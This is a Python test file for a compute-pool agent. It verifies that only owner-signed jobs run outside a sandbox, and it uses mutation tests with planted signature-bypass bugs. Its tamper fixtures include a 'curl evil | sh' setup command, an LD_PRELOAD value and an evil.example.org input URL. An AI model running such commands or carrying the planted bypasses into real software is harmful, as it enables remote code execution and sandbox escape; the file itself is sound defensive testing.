"""The host's machine belongs to its owner, also against the hub: only a signature makes a job the owner's own.

The checks here also run with planted bugs, which they must find.
"""

import asyncio
import random
from dataclasses import replace
from datetime import timedelta

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from support.agents import running_agent
from support.fake_hub import FakeHub
from support.fake_sandbox import FakeSandbox
from support.lone_supervisor import LoneSupervisor, run_in_virtual_time
from support.own_jobs import MANIFEST, NODE_ID, NOW, OWNER, SIGNATURE, keys_of, signature_of, signed_manifest
from support.planted import each_check, each_mutant
from support.proofs import figure

from computepool.agent import own_jobs as own_jobs_module
from computepool.agent import placement, workshop
from computepool.agent.clock import SystemClock
from computepool.agent.own_jobs import OwnCheckpoints, OwnerCheck, OwnJobs, believed
from computepool.agent.owner.policy import Own, Policy, Welcome
from computepool.agent.owner.policy_file import PolicyFile
from computepool.protocol import own_job as own_job_module
from computepool.protocol.manifest import BundleRef, InputRef, Manifest, Saved, SavedFile
from computepool.protocol.own_job import OWN_JOB, OwnJob, Work, key_text
from computepool.protocol.receipt import RECEIPT, EndReason
from computepool.protocol.signing import Signed, key_id_of, sign, verify
from computepool.protocol.states import IsolationLevel

HOST = OwnJobs(home_key=key_text(OWNER.public_key()), policy=Own(process=True))
OTHER = InputRef(path="data/c.csv", digest="sha256:ee")
OTHERS_WORK = {
    "argv": ("sh", "-c", "id"),
    "env": {"A": "1", "Z": "ü", "LD_PRELOAD": "x.so"},
    "image": "python:3.13",
    "setup": ("sh", "-c", "curl evil | sh"),
    "network": False,
    "bundle": BundleRef(digest="sha256:ff", size_bytes=1),
    "inputs": (*MANIFEST.inputs, OTHER),
    "outputs": ("/etc/**",),
    "checkpoint": ".",
    "slices": 4,
    "max_runtime_seconds": 7201.0,
    "links": {"/data": "data"},
}
"""For each field that is signed, another value."""
SAVED = Saved(number=1, files=(SavedFile(path="a", digest="sha256:aa", size_bytes=1),))


def check(manifest: Manifest, *, now=NOW, host: OwnJobs = HOST) -> OwnerCheck:
    return host.check(manifest, now)


def ordered(**changes: object) -> Manifest:
    """The signed job, as another hub would order it."""
    return MANIFEST.model_copy(update=changes)


def stated(
    key: Ed25519PrivateKey = OWNER, *, name: str | None = None, type: str = OWN_JOB, **changes: object
) -> Manifest:
    """The same job under another statement."""
    statement = OwnJob.model_validate_json(SIGNATURE.body).model_copy(update=changes)
    key_id = name or key_id_of(key.public_key().public_bytes_raw())
    return ordered(own_job=sign(key, key_id, type, statement.to_bytes()))


# ── checks ───────────────────────────────────────────────────────────────────────────────────────────────────────────


def every_part_of_the_work_is_signed(folder):
    assert check(MANIFEST) == OwnerCheck(own=True, trusted=True, process=True)
    assert OTHERS_WORK.keys() == Work.model_fields.keys()
    for name, value in OTHERS_WORK.items():
        assert getattr(MANIFEST, name) != value
        assert not check(ordered(**{name: value})).own, name
    first, second = MANIFEST.inputs
    for changed in (
        first.model_copy(update={"path": "data/other.csv"}),
        first.model_copy(update={"digest": "sha256:" + "0" * 64}),
        first.model_copy(update={"url": "https://evil.example.org/a.csv"}),
    ):
        assert not check(ordered(inputs=(changed, second))).own, changed
    for index in (-1, 3):
        assert not check(ordered(slice_index=index)).own, index


def only_a_trusted_key_signs(folder):
    assert check(stated()).own
    stranger, owners_id = Ed25519PrivateKey.generate(), key_id_of(OWNER.public_key().public_bytes_raw())
    assert not check(stated(stranger)).own
    assert not check(stated(stranger, name=owners_id)).own
    assert not check(stated(type=RECEIPT)).own
    assert not check(ordered(own_job=signature_of(stated(type=RECEIPT)).model_copy(update={"type": OWN_JOB}))).own
    assert not check(ordered(own_job=None)).own
    assert not check(ordered(own=False)).own
    assert not check(MANIFEST, host=OwnJobs()).own


def key_that_the_owner_removed_signs_nothing_more(folder):
    trusting = OwnJobs(policy=Own(process=True, keys=(key_text(OWNER.public_key()),)))
    assert check(MANIFEST, host=trusting).process
    without = trusting.following(Own(process=True))
    assert check(MANIFEST, host=without).why_not
    assert not check(MANIFEST, host=without).own
    assert without.offered([])["owner_keys"] == ()


def job_from_a_browser_runs_in_a_sandbox(folder):
    """Not signed, whatever level its spec accepts, on a machine that runs its owner's signed jobs without one."""
    signed = signed_manifest(image=None, isolation="process")
    browser = signed.model_copy(update={"own_job": None})
    levels = [FakeSandbox(folder / level, level=level) for level in (IsolationLevel.PROCESS, IsolationLevel.BUBBLEWRAP)]
    chosen = choose(levels, browser)
    assert chosen is not None
    assert chosen.level is IsolationLevel.BUBBLEWRAP
    assert choose(levels[:1], browser) is None
    assert choose(levels[:1], signed) is levels[0]


def signed_job_of_one_node_is_no_other_nodes(folder):
    """A hub that replays it: the old order as it is, or a new order around the old signature."""

    async def story():
        bench = LoneSupervisor(folder)
        bench.shop.own_jobs = bench.hub.own_jobs
        bench.shop.rules = Policy(welcome=Welcome(strangers=False)).house_rules()
        mine = bench.manifest("say", "mine")
        elsewhere = mine.model_copy(update={"node_id": "node_of_the_same_owner"})
        bench.give(bench.hub.sign_manifest(elsewhere))
        bound = bench.hub.own_job(mine, node_id="node_of_the_same_owner")
        bench.give(bench.hub.sign_manifest(bench.manifest("say", "mine", own_job=bound)))
        await asyncio.sleep(1)
        assert [command.argv for command in bench.sandbox.started] == []
        bench.give(bench.hub.sign_manifest(mine))
        await asyncio.sleep(1)
        assert [command.argv for command in bench.sandbox.started] == [("say", "mine")]
        await bench.close()

    run_in_virtual_time(story())


def signature_is_for_one_hub_one_node_and_a_while(folder):
    assert check(stated()).own
    assert not check(stated(hub_id="hub_2")).own
    assert not check(stated(node_id="node_2")).own
    assert check(stated(node_id=NODE_ID)).own
    assert not check(stated(version=2)).own
    assert check(MANIFEST, now=NOW + timedelta(days=7)).own
    assert not check(MANIFEST, now=NOW + timedelta(days=8)).own


def isolation_that_the_owner_asked_for_is_kept(folder):
    manifest = signed_manifest(isolation="container", image=None, setup=None, network=False)
    assert check(manifest).least is IsolationLevel.CONTAINER
    levels = {level: FakeSandbox(folder / level, level=level) for level in IsolationLevel}
    chosen = choose(list(levels.values()), manifest)
    assert chosen is not None
    assert chosen.level is IsolationLevel.CONTAINER


def process_is_for_signed_jobs_where_the_policy_allows_it(folder):
    plain = signed_manifest(image=None)
    process = [FakeSandbox(folder, level=IsolationLevel.PROCESS)]
    assert choose(process, plain) is process[0]
    assert choose(process, plain, OwnJobs(home_key=HOST.home_key, from_up=True)) is process[0]
    assert choose(process, plain, OwnJobs(home_key=HOST.home_key)) is None
    assert choose(process, plain.model_copy(update={"own_job": None})) is None
    offered = OwnJobs(home_key=HOST.home_key).offered([*process, FakeSandbox(folder)])
    assert (offered["isolation"], offered["owner_keys"]) == ((IsolationLevel.BUBBLEWRAP,), tuple(keys_of(OWNER)))
    assert HOST.offered(process)["isolation"] == (IsolationLevel.PROCESS,)


def checkpoint_of_the_hubs_making_keeps_a_job_in_a_sandbox(folder):
    async def story():
        notes = OwnCheckpoints(folder, inline)
        host = replace(HOST, checkpoints=notes)
        resumed = signed_manifest(image=None).model_copy(update={"saved": SAVED})
        made_up = check(resumed, host=host)
        assert (made_up.own, made_up.trusted, made_up.process) == (True, False, False)
        await notes.note(resumed, SAVED.files)
        again = replace(HOST, checkpoints=OwnCheckpoints(folder, inline))
        assert check(resumed, host=again).process
        assert not check(resumed.model_copy(update={"slice_index": 1}), host=again).process
        other = Saved(number=1, files=(SavedFile(path="b", digest="sha256:aa", size_bytes=1),))
        assert not check(resumed.model_copy(update={"saved": other}), host=again).process

    asyncio.run(story())


def the_hubs_clock_does_not_keep_a_signature_alive(folder):
    bench = LoneSupervisor(folder)
    bench.shop.own_jobs = bench.hub.own_jobs
    manifest, now = bench.manifest("exit", "0"), SystemClock().now()
    bench.shop.hub_time.set(now - timedelta(days=30))
    for seconds, own in ((3600, True), (-3600, False)):
        statement = bench.hub.own_job(manifest, expires_at=now + timedelta(seconds=seconds))
        assert bench.shop.whose(manifest.model_copy(update={"own_job": statement})).own is own


def unsigned_job_is_a_strangers_to_the_owners_policy(folder):
    """To the supervisor as a whole: house rules, and what is counted."""

    async def story():
        bench = LoneSupervisor(folder)
        bench.shop.own_jobs = bench.hub.own_jobs
        bench.shop.rules = Policy(welcome=Welcome(strangers=False)).house_rules()
        bench.give(bench.hub.sign_manifest(bench.manifest(own_job=None)))
        bench.give(bench.hub.sign_manifest(bench.manifest("say", "hello")))
        await asyncio.sleep(1)
        assert [command.argv for command in bench.sandbox.started] == [("say", "hello")]
        await bench.close()

    run_in_virtual_time(story())


async def inline(function, /, *args, **kwargs):
    return function(*args, **kwargs)


def choose(sandboxes, manifest, host: OwnJobs = HOST):
    return placement.choose_sandbox(sandboxes, manifest, IsolationLevel.BUBBLEWRAP, owner=check(manifest, host=host))


# ── planted bugs ─────────────────────────────────────────────────────────────────────────────────────────────────────


def the_hub_is_believed(patch):
    patch.setattr(OwnJobs, "check", lambda self, manifest, now: believed(manifest))


def supervisor_believes_the_hub(patch):
    patch.setattr(workshop.Workshop, "whose", lambda self, manifest: believed(manifest))


def signature_is_not_checked(patch):
    patch.setattr(own_job_module, "verify", lambda signed, type, keys: signed.body.encode())


def signature_is_not_needed(patch):
    real = own_job_module.open_own_job
    statement = OwnJob.model_validate_json(SIGNATURE.body)
    patch.setattr(
        own_jobs_module,
        "open_own_job",
        lambda manifest, keys, now: real(manifest, keys, now=now) if manifest.own_job is not None else statement,
    )


def type_is_not_checked(patch):
    real = verify
    patch.setattr(own_job_module, "verify", lambda signed, type, keys: real(signed, signed.type, keys))


def _without(name: str):
    def mutant(patch):
        real = Work.ordered_by

        def ordered_by(cls, manifest):
            return real(manifest).model_copy(update={name: getattr(real(MANIFEST), name)})

        patch.setattr(Work, "ordered_by", classmethod(ordered_by))

    mutant.__name__ = f"{name}_is_not_compared"
    return mutant


def urls_are_not_compared(patch):
    real = Work.ordered_by

    def ordered_by(cls, manifest):
        known = {each.path: each.url for each in MANIFEST.inputs}
        inputs = [each.model_copy(update={"url": known.get(each.path, each.url)}) for each in manifest.inputs]
        return real(manifest.model_copy(update={"inputs": tuple(inputs)}))

    patch.setattr(Work, "ordered_by", classmethod(ordered_by))


def _any(name: str):
    """Some part of the statement is as the manifest would have it."""

    def mutant(patch):
        real = OwnJob.model_validate_json

        def validate(body):
            statement = real(body)
            fine = {"hub_id": MANIFEST.hub_id, "node_id": None, "version": 1, "expires_at": NOW + timedelta(days=9_999)}
            return statement.model_copy(update={name: fine[name]})

        patch.setattr(OwnJob, "model_validate_json", validate)

    mutant.__name__ = f"any_{name}_will_do"
    return mutant


def slices_are_not_counted(patch):
    real = own_job_module.open_own_job
    patch.setattr(
        own_jobs_module,
        "open_own_job",
        lambda manifest, keys, now: real(manifest.model_copy(update={"slice_index": 0}), keys, now=now),
    )


def removed_keys_are_kept(patch):
    patch.setattr(OwnJobs, "following", lambda self, policy: self)


def process_needs_no_leave(patch):
    patch.setattr(OwnJobs, "process", property(lambda self: True))


def process_is_for_everybody(patch):
    real = placement.choose_sandbox

    def choose_sandbox(sandboxes, manifest, least, unsafe=(), *, owner):
        return real(sandboxes, manifest, least, unsafe, owner=owner) or next(iter(sandboxes), None)

    patch.setattr(placement, "choose_sandbox", choose_sandbox)


def level_is_the_hubs_to_say(patch):
    real = OwnJobs.check

    def check(self, manifest, now):
        return replace(real(self, manifest, now), least=IsolationLevel.PROCESS)

    patch.setattr(OwnJobs, "check", check)


def every_checkpoint_is_known(patch):
    patch.setattr(OwnCheckpoints, "has", lambda self, manifest: True)


def checkpoints_are_known_by_their_slice(patch):
    patch.setattr(own_jobs_module, "_digest_of", lambda files: "same")


def checkpoints_are_known_by_their_content(patch):
    patch.setattr(own_jobs_module, "_slice_of", lambda manifest: "same")


def checkpoints_are_forgotten_by_a_restart(patch):
    patch.setattr(own_jobs_module, "_load", lambda file: {})


def hub_tells_the_time(patch):
    patch.setattr(
        workshop.Workshop,
        "whose",
        lambda self, manifest: self.own_jobs.check(manifest, self.hub_time.now()),
    )


MUTANTS = {
    every_part_of_the_work_is_signed: [
        the_hub_is_believed,
        urls_are_not_compared,
        slices_are_not_counted,
        *(_without(name) for name in Work.model_fields),
    ],
    only_a_trusted_key_signs: [the_hub_is_believed, signature_is_not_checked, type_is_not_checked],
    signature_is_for_one_hub_one_node_and_a_while: [
        _any(name) for name in ("hub_id", "node_id", "version", "expires_at")
    ],
    key_that_the_owner_removed_signs_nothing_more: [removed_keys_are_kept, signature_is_not_checked],
    job_from_a_browser_runs_in_a_sandbox: [the_hub_is_believed, signature_is_not_needed],
    signed_job_of_one_node_is_no_other_nodes: [_any("node_id"), supervisor_believes_the_hub],
    isolation_that_the_owner_asked_for_is_kept: [level_is_the_hubs_to_say],
    process_is_for_signed_jobs_where_the_policy_allows_it: [process_needs_no_leave, process_is_for_everybody],
    checkpoint_of_the_hubs_making_keeps_a_job_in_a_sandbox: [
        the_hub_is_believed,
        every_checkpoint_is_known,
        checkpoints_are_known_by_their_slice,
        checkpoints_are_known_by_their_content,
        checkpoints_are_forgotten_by_a_restart,
    ],
    the_hubs_clock_does_not_keep_a_signature_alive: [hub_tells_the_time, supervisor_believes_the_hub],
    unsigned_job_is_a_strangers_to_the_owners_policy: [supervisor_believes_the_hub],
}


@each_check(MUTANTS)
def test_owner_is_known_by_the_signature(check, tmp_path):
    check(tmp_path)


@each_mutant(MUTANTS)
def test_planted_bug_is_found(check, mutant, tmp_path, monkeypatch):
    mutant(monkeypatch)
    with pytest.raises(AssertionError):
        check(tmp_path)


# ── whole agents ─────────────────────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.proof
def test_no_damaged_signature_is_ever_taken_for_the_owners():
    rng, damaged = random.Random(6), 0
    wire = bytearray(SIGNATURE.to_bytes())
    for _ in range(figure(2_000, 50_000)):
        data = bytearray(wire)
        data[rng.randrange(len(data))] ^= 1 << rng.randrange(8)
        try:
            signed = Signed.model_validate_json(bytes(data))
        except ValueError:
            continue
        if signed != SIGNATURE:
            damaged += 1
            assert not check(ordered(own_job=signed)).own, data
    assert damaged > 500


def test_agent_tells_the_hub_whose_jobs_are_its_owners_and_follows_its_policy(tmp_path):
    """What the policy says is offered within seconds, on a new line."""

    async def story():
        async with FakeHub() as hub, running_agent(hub, tmp_path, own_jobs=OwnJobs()) as running:
            agent = running.agent
            declined = hub.offer(running.node, "/bin/true")
            await hub.until(lambda: declined in hub.receipts)
            assert hub.receipts[declined].reason is EndReason.DECLINED
            assert "not a trusted key" in hub.receipts[declined].detail
            own = Own(process=True, keys=(key_text(hub.owner_key.public_key()),))
            await agent._housekeeping.tick(Policy(own=own))
            await hub.until(lambda: running.node.proofs[-1].capacity.owner_keys == tuple(keys_of(hub.owner_key)))
            assert IsolationLevel.PROCESS in running.node.proofs[-1].capacity.isolation
            taken = hub.offer(running.node, "/bin/true")
            await hub.until(lambda: taken in hub.receipts)
            assert hub.receipts[taken].exit_code == 0
            await agent._housekeeping.tick(Policy(own=Own(keys=own.keys)))
            await hub.until(lambda: running.node.proofs[-1].capacity.isolation == ())
            declined = hub.offer(running.node, "/bin/true")
            await hub.until(lambda: declined in hub.receipts)
            assert "computepool agent policy own.process true" in hub.receipts[declined].detail
            await agent._housekeeping.tick(Policy(own=Own(process=True)))
            await hub.until(lambda: running.node.proofs[-1].capacity.owner_keys == ())
            removed = hub.offer(running.node, "/bin/true")
            await hub.until(lambda: removed in hub.receipts)
            assert hub.receipts[removed].reason is EndReason.DECLINED
            assert "not a trusted key" in hub.receipts[removed].detail, "its owner took the key out"

    asyncio.run(story())


def test_own_job_goes_on_without_a_sandbox_from_a_checkpoint_that_this_node_saved(tmp_path):
    async def story():
        async with FakeHub() as hub:
            async with running_agent(hub, tmp_path, own_jobs=hub.own_jobs) as running:
                script = 'cd "$COMPUTEPOOL_CHECKPOINT"; cat step 2>/dev/null && exit 0; echo 7 > step; exit 85'
                first = hub.offer(running.node, "/bin/sh", "-c", script, job_id="job_1")
                await hub.until(lambda: first in hub.receipts)
                files = hub.checkpoints[first][0].files
            ref, downloads = hub.bundle(b"7\n")
            saved = Saved(number=1, files=files)
            assert [file.digest for file in files] == [ref.digest]
            async with running_agent(hub, tmp_path, own_jobs=hub.own_jobs) as running:
                again = hub.offer(
                    running.node, "/bin/sh", "-c", script, job_id="job_1", saved=saved, downloads=downloads
                )
                await hub.until(lambda: again in hub.receipts)
                assert bytes(hub.logs[again]) == b"7\n"
                # A checkpoint that only the hub knows is not restored where nothing holds the job.
                lie = hub.offer(running.node, "/bin/sh", "-c", script, job_id="job_2", saved=saved, downloads=downloads)
                await hub.until(lambda: lie in hub.receipts)
                assert hub.receipts[lie].reason is EndReason.DECLINED
                assert "was not saved by this machine" in hub.receipts[lie].detail

    asyncio.run(story())


def test_policy_file_with_something_else_than_a_key_is_not_used(tmp_path):
    file = PolicyFile(tmp_path)
    file.path.write_text('[own]\nkeys = ["ssh-ed25519 AAAA"]\nprocess = true\n')
    file.refresh()
    assert "own.keys" in file.problem
    assert "computepool key" in file.problem
    assert not file.policy.own.process
    assert not file.policy.welcome.strangers
